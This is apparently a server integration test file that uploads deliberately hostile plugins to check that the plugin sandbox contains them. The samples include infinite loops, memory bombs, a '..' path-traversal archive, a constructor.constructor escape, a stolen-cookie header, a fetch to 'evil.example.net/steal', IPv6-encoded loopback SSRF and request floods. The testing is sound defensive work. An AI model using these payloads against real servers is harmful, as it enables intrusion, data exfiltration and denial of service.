// Hostile plugins installed through the REST API into a running server. After each attack the core
// still serves (ping, a post), a well-behaved plugin still answers, and the offender is contained:
// stopped with a visible reason, or its attempt refused with a stable error id.
import { expect } from 'chai';
import type { Client4 } from '@mattermost/client';
import type { Channel } from '@mattermost/types/channels';
import type { Post } from '@mattermost/types/posts';
import type { PluginStatus } from '@mattermost/types/plugins';
import type { Team } from '@mattermost/types/teams';
import { startTestServer, type TestServer } from '../helpers/test-server.ts';
import { createAdmin } from '../helpers/fixtures.ts';
import { expectClientError } from '../helpers/expect-error.ts';
import { pluginBundle, tarGz } from '../helpers/plugin-bundles.ts';
import { eventually } from '../helpers/ws-client.ts';
import { HttpReceiver } from '../helpers/http-receiver.ts';

const RUNNING = 2;
const FAILED_TO_START = 3;
const FAILED_TO_STAY_RUNNING = 4;
const GOOD = 'com.example.good';

describe('hostile plugins against a running server', function () {
  this.timeout(30_000);
  let ts: TestServer;
  let admin: Client4;
  let team: Team;
  let channel: Channel;
  let attack = 0;

  before(async () => {
    ts = await startTestServer({
      config: { PluginSettings: { EnableUploads: true, HookTimeoutMs: 3000, BlockingHookTimeoutMs: 300, MemoryLimitMb: 32 } },
      pluginTimings: { restartDelaysMs: [20] },
    });
    admin = (await createAdmin(ts)).client;
    team = await admin.createTeam({ name: 'hostile', display_name: 'Hostile', type: 'O' } as Team);
    channel = await admin.getChannelByName(team.id, 'town-square');
    await install(GOOD, `export default () => ({ serveHttp() { return { body: 'alive' }; } });`);
  });
  after(async () => {
    await ts.close();
  });

  afterEach(async () => {
    expect((await admin.ping(false)).status).to.equal('OK');
    const post = await admin.createPost({ channel_id: channel.id, message: `still serving after attack ${attack}` } as Post);
    expect(post.message).to.equal(`still serving after attack ${attack}`);
    expect(await (await fetch(`${ts.url}/plugins/${GOOD}/`)).text()).to.equal('alive');
  });

  async function install(id: string, server: string, permissions: Record<string, unknown> = { api: [] }): Promise<void> {
    attack += 1;
    const bundle = pluginBundle({ id, server, manifest: { permissions } });
    await admin.uploadPlugin(new File([new Uint8Array(bundle)], `${id}.tar.gz`) as never, false);
    await admin.enablePlugin(id);
  }

  async function status(id: string): Promise<PluginStatus & { error: string }> {
    return (await admin.getPluginStatuses()).find((s) => s.plugin_id === id) as PluginStatus & { error: string };
  }

  /** GET /plugins/{id}/ and its JSON body. */
  async function ask(id: string): Promise<{ status: number; body: unknown }> {
    const response = await fetch(`${ts.url}/plugins/${id}/`);
    const text = await response.text();
    return { status: response.status, body: response.headers.get('content-type')?.includes('json') ? JSON.parse(text) : text };
  }

  /** A plugin whose serveHttp runs `body` (an async function body) and answers its result as JSON. */
  const reporter = (body: string) => `export default (api) => ({ async serveHttp() { const result = await (async () => { ${body} })(); return { headers: { 'content-type': 'application/json' }, body: JSON.stringify(result) }; } });`;
  /** Runs `attempt` and reports the error id it fails with (or 'no error'). */
  const errorIdOf = (attempt: string) => reporter(`try { ${attempt}; return 'no error'; } catch (err) { return err.id ?? String(err); }`);

  describe('at activation', () => {
    it('stops a plugin looping forever in onActivate with FailedToStart', async () => {
      await install('com.example.syncloop', 'export default () => ({ onActivate() { for (;;) {} } });');
      expect(await status('com.example.syncloop')).to.include({ state: FAILED_TO_START });
    });

    it('stops a plugin spinning an endless promise chain in onActivate', async () => {
      await install('com.example.asyncloop', 'export default () => ({ async onActivate() { for (;;) { await Promise.resolve(); } } });');
      expect(await status('com.example.asyncloop')).to.include({ state: FAILED_TO_START });
    });

    it('stops a plugin awaiting forever in onActivate', async () => {
      await install('com.example.hang', 'export default () => ({ onActivate() { return new Promise(() => {}); } });');
      expect(await status('com.example.hang')).to.include({ state: FAILED_TO_START });
    });

    it('stops a plugin exhausting its memory in onActivate, naming memory as the reason', async () => {
      await install('com.example.membomb', 'export default () => ({ onActivate() { const keep = []; for (;;) keep.push(new Array(1e5).fill(Math.random())); } });');
      const failed = await status('com.example.membomb');
      expect(failed.state).to.equal(FAILED_TO_START);
      expect(failed.error).to.match(/memory/i);
    });

    it('refuses a bundle that is not a gzip archive', async () => {
      attack += 1;
      await expectClientError(admin.uploadPlugin(new File([new TextEncoder().encode('not a tarball')], 'x.tar.gz') as never, false), 400);
    });

    it('refuses a bundle reaching out of its folder with ..', async () => {
      attack += 1;
      const bundle = tarGz([{ path: 'plugin.json', body: '{}' }, { path: '../../escape.txt', body: 'pwned' }]);
      await expectClientError(admin.uploadPlugin(new File([new Uint8Array(bundle)], 'x.tar.gz') as never, false), 400);
    });

    it('refuses a manifest asking for an API group that does not exist', async () => {
      attack += 1;
      const bundle = pluginBundle({ id: 'com.example.greedy', server: 'export default () => ({});', manifest: { permissions: { api: ['root'] } } });
      await expectClientError(admin.uploadPlugin(new File([new Uint8Array(bundle)], 'x.tar.gz') as never, false), 400, 'app.plugin.manifest.invalid.app_error');
    });
  });

  describe('escape attempts', () => {
    it('finds no process through constructor.constructor', async () => {
      await install('com.example.ctor', reporter(`try { return typeof (this.constructor.constructor('return process')()); } catch (err) { return 'blocked'; }`));
      expect((await ask('com.example.ctor')).body).to.be.oneOf(['undefined', 'blocked']);
    });

    it('finds no require, process, fetch, timers or console in its global scope', async () => {
      await install(
        'com.example.globals',
        reporter(`const g = Function('return this')(); return ['require', 'process', 'fetch', 'setTimeout', 'setInterval', 'console', 'SharedArrayBuffer', 'WebAssembly'].map((name) => typeof g[name]);`),
      );
      expect((await ask('com.example.globals')).body).to.deep.equal(Array(8).fill('undefined'));
    });

    it('cannot make the server answer with its own Set-Cookie', async () => {
      await install('com.example.cookie', `export default () => ({ serveHttp() { return { headers: { 'set-cookie': 'MMAUTHTOKEN=stolen', connection: 'upgrade' }, body: 'hi' }; } });`);
      const response = await fetch(`${ts.url}/plugins/com.example.cookie/`);
      expect(response.headers.get('set-cookie')).to.equal(null);
      expect(await response.text()).to.equal('hi');
    });
  });

  describe('calls beyond its permissions', () => {
    it('is refused an API group its manifest did not ask for', async () => {
      await install('com.example.noperm', errorIdOf(`await api.posts.create({ channel_id: '${'a'.repeat(26)}', message: 'hi' })`));
      expect((await ask('com.example.noperm')).body).to.equal('plugin.api.permission_denied');
    });

    it('is refused HTTP to a host it did not declare', async () => {
      await install('com.example.egress', errorIdOf(`await api.http.fetch('https://evil.example.net/steal')`), { api: ['http'], http_hosts: ['api.example.com'] });
      expect((await ask('com.example.egress')).body).to.equal('plugin.http.host_not_allowed');
    });

    it('is refused HTTP to a private address even when it declared it', async () => {
      await install('com.example.ssrf', errorIdOf(`await api.http.fetch('http://127.0.0.1:1/admin')`), { api: ['http'], http_hosts: ['127.0.0.1'] });
      expect((await ask('com.example.ssrf')).body).to.equal('plugin.http.private_address');
    });

    it('is refused HTTP to loopback spelt as IPv4-compatible or IPv4-translated IPv6, even declaring every host', async () => {
      const receiver = await HttpReceiver.start();
      try {
        const port = new URL(receiver.url).port;
        const urls = JSON.stringify([`http://[::7f00:1]:${port}/`, `http://[::ffff:0:7f00:1]:${port}/`]);
        await install(
          'com.example.ssrf6',
          reporter(`const ids = []; for (const url of ${urls}) { try { await api.http.fetch(url); ids.push('no error'); } catch (err) { ids.push(err.id ?? String(err)); } } return ids;`),
          { api: ['http'], http_hosts: ['*'] },
        );
        expect((await ask('com.example.ssrf6')).body).to.deep.equal(['plugin.http.private_address', 'plugin.http.private_address']);
        expect(receiver.requests).to.deep.equal([]);
      } finally {
        await receiver.close();
      }
    });

    it('is refused a KV value over the size limit', async () => {
      await install('com.example.kvbomb', errorIdOf(`await api.kv.set('big', 'x'.repeat(2 * 1024 * 1024))`), { api: ['kv'] });
      expect((await ask('com.example.kvbomb')).body).to.be.oneOf(['plugin.kv.value_too_large', 'sandbox.api.too_large']);
    });
  });

  describe('floods', () => {
    it('has API calls beyond the in-flight cap refused', async () => {
      await install(
        'com.example.apiflood',
        reporter(`const results = await Promise.allSettled(Array.from({ length: 2000 }, () => api.kv.get('k'))); return results.filter((r) => r.status === 'rejected' && r.reason.id === 'sandbox.api.too_many_calls').length;`),
        { api: ['kv'] },
      );
      const answer = await ask('com.example.apiflood');
      expect(answer.body, JSON.stringify(answer)).to.be.a('number').above(0);
    });

    it('survives a log flood, the server dropping what exceeds the rate', async () => {
      // 3,000 lines in waves of 50 at once (under the in-flight cap): a flood, without 3,000 round trips in a row outlasting the request on a busy machine.
      await install(
        'com.example.logflood',
        reporter(`for (let wave = 0; wave < 60; wave++) await Promise.all(Array.from({ length: 50 }, (_, i) => api.log.info('flood ' + (wave * 50 + i)))); return 'done';`),
        { api: ['log'] },
      );
      const answer = await ask('com.example.logflood');
      expect(answer.body, JSON.stringify(answer)).to.equal('done');
    });

    it('refuses new KV keys beyond the quota with plugin.kv.quota_exceeded, exactly even under concurrent sets, keeping existing keys', async () => {
      // GET /plugins/com.example.kvflood/?from=N&count=M sets keys N..N+M-1, `parallel` at a time.
      await install(
        'com.example.kvflood',
        `export default (api) => ({ async serveHttp(ctx, request) {
          const from = Number(request.query.from), count = Number(request.query.count), parallel = Number(request.query.parallel);
          const outcome = { stored: 0, refused: {} };
          for (let start = from; start < from + count; start += parallel) {
            const batch = Array.from({ length: Math.min(parallel, from + count - start) }, (_, i) => api.kv.set('key' + (start + i), start + i));
            for (const result of await Promise.allSettled(batch)) {
              if (result.status === 'fulfilled') outcome.stored += 1;
              else outcome.refused[result.reason.id] = (outcome.refused[result.reason.id] ?? 0) + 1;
            }
          }
          if (request.query.check) {
            await api.kv.set('key5', 'rewritten');
            let keys = 0;
            for (let page = 0; ; page++) { const found = await api.kv.list(page, 1000); keys += found.length; if (found.length < 1000) break; }
            Object.assign(outcome, { key0: await api.kv.get('key0'), key5: await api.kv.get('key5'), key469: await api.kv.get('key469'), keys });
          }
          return { headers: { 'content-type': 'application/json' }, body: JSON.stringify(outcome) };
        } });`,
        { api: ['kv'] },
      );
      const setKeys = async (from: number, count: number, parallel: number, check = false) => {
        const response = await fetch(`${ts.url}/plugins/com.example.kvflood/?from=${from}&count=${count}&parallel=${parallel}${check ? '&check=1' : ''}`);
        expect(response.status, await response.clone().text()).to.equal(200);
        return (await response.json()) as { stored: number; refused: Record<string, number>; [field: string]: unknown };
      };
      // The default quota (10 000) takes 30 s and more to fill on a loaded machine: the same rule, smaller.
      const QUOTA = 500;
      await admin.patchConfig({ PluginSettings: { KvMaxKeysPerPlugin: QUOTA } } as never);
      const CONCURRENT = 60;
      // In requests of 100 keys, each well within the hook deadline.
      for (let from = 0; from < QUOTA - CONCURRENT / 2; from += 100) {
        const count = Math.min(100, QUOTA - CONCURRENT / 2 - from);
        expect(await setKeys(from, count, 50)).to.deep.equal({ stored: count, refused: {} });
      }
      // 30 slots left and 60 new keys at once: exactly 30 get in.
      expect(await setKeys(QUOTA - CONCURRENT / 2, CONCURRENT, CONCURRENT)).to.deep.equal({ stored: CONCURRENT / 2, refused: { 'plugin.kv.quota_exceeded': CONCURRENT / 2 } });
      expect(await setKeys(QUOTA + 100, 10, 10, true)).to.deep.equal({
        stored: 0,
        refused: { 'plugin.kv.quota_exceeded': 10 },
        key0: 0,
        key5: 'rewritten',
        key469: 469,
        keys: QUOTA,
      });
      await install('com.example.kvneighbour', reporter(`await api.kv.set('mine', 'fine'); return api.kv.get('mine');`), { api: ['kv'] });
      expect((await ask('com.example.kvneighbour')).body).to.equal('fine');
    });

    it('has a post storm from messageHasBeenPosted rate-limited', async () => {
      await install(
        'com.example.storm',
        `export default (api) => ({
          async onActivate() { await api.bots.ensureBot({ username: 'stormbot' }); },
          async messageHasBeenPosted(ctx, post) {
            if (post.message !== 'start the storm') return;
            await Promise.allSettled(Array.from({ length: 200 }, (_, i) => api.posts.create({ channel_id: post.channel_id, message: 'storm ' + i })));
          },
        });`,
        { api: ['bots', 'posts'] },
      );
      await admin.createPost({ channel_id: channel.id, message: 'start the storm' } as Post);
      await new Promise((resolve) => setTimeout(resolve, 1500));
      const posts = await admin.getPosts(channel.id, 0, 200);
      const storm = Object.values(posts.posts).filter((p) => p.message.startsWith('storm ')).length;
      expect(storm).to.be.above(0).and.below(100);
    });
  });

  describe('misbehaving hooks', () => {
    it('lets posts through when messageWillBePosted loops forever (fail-open), and restarts the offender', async () => {
      await install('com.example.willloop', 'export default () => ({ messageWillBePosted() { for (;;) {} } });');
      const started = Date.now();
      const post = await admin.createPost({ channel_id: channel.id, message: 'through the loop' } as Post);
      expect(post.message).to.equal('through the loop');
      expect(Date.now() - started).to.be.below(5000);
      await eventually(async () => expect((await status('com.example.willloop')).state).to.be.oneOf([RUNNING, FAILED_TO_STAY_RUNNING]), 5000);
    });

    it('lets posts through when messageWillBePosted throws a non-Error', async () => {
      await install('com.example.throws42', 'export default () => ({ messageWillBePosted() { throw 42; } });');
      expect((await admin.createPost({ channel_id: channel.id, message: 'despite 42' } as Post)).message).to.equal('despite 42');
    });

    it('answers a request with an error when serveHttp returns more than the size limit', async () => {
      await install('com.example.hugeanswer', `export default () => ({ serveHttp() { return { body: 'x'.repeat(3 * 1024 * 1024) }; } });`);
      expect((await ask('com.example.hugeanswer')).status).to.be.within(500, 599);
    });

    it('answers a request with an error once serveHttp overruns its deadline', async () => {
      await install('com.example.slowhttp', 'export default () => ({ serveHttp() { return new Promise(() => {}); } });');
      const started = Date.now();
      expect((await ask('com.example.slowhttp')).status).to.be.within(500, 599);
      expect(Date.now() - started).to.be.below(5000);
    });

    it('fails a looping slash command with an error and keeps other commands working', async () => {
      await install(
        'com.example.cmdloop',
        `export default (api) => ({ async onActivate() { await api.commands.register({ trigger: 'spin' }); }, executeCommand() { for (;;) {} } });`,
        { api: ['commands'] },
      );
      await expectClientError(admin.executeCommand('/spin', { channel_id: channel.id, team_id: team.id } as never), 500);
    });

    it('stops a plugin whose notifications keep exhausting its memory as FailedToStayRunning', async () => {
      await install('com.example.postbomb', 'export default () => ({ messageHasBeenPosted() { const keep = []; for (;;) keep.push(new Array(1e5).fill(Math.random())); } });');
      for (let i = 0; i < 3; i++) {
        await eventually(async () => expect((await status('com.example.postbomb')).state).to.equal(RUNNING), 10_000);
        await admin.createPost({ channel_id: channel.id, message: `feed the bomb ${i}` } as Post);
        await eventually(async () => expect((await status('com.example.postbomb')).state).not.to.equal(RUNNING), 10_000);
      }
      await eventually(async () => expect((await status('com.example.postbomb')).state).to.equal(FAILED_TO_STAY_RUNNING), 10_000);
      expect((await status('com.example.postbomb')).error).to.match(/memory/i);
    });
  });
});
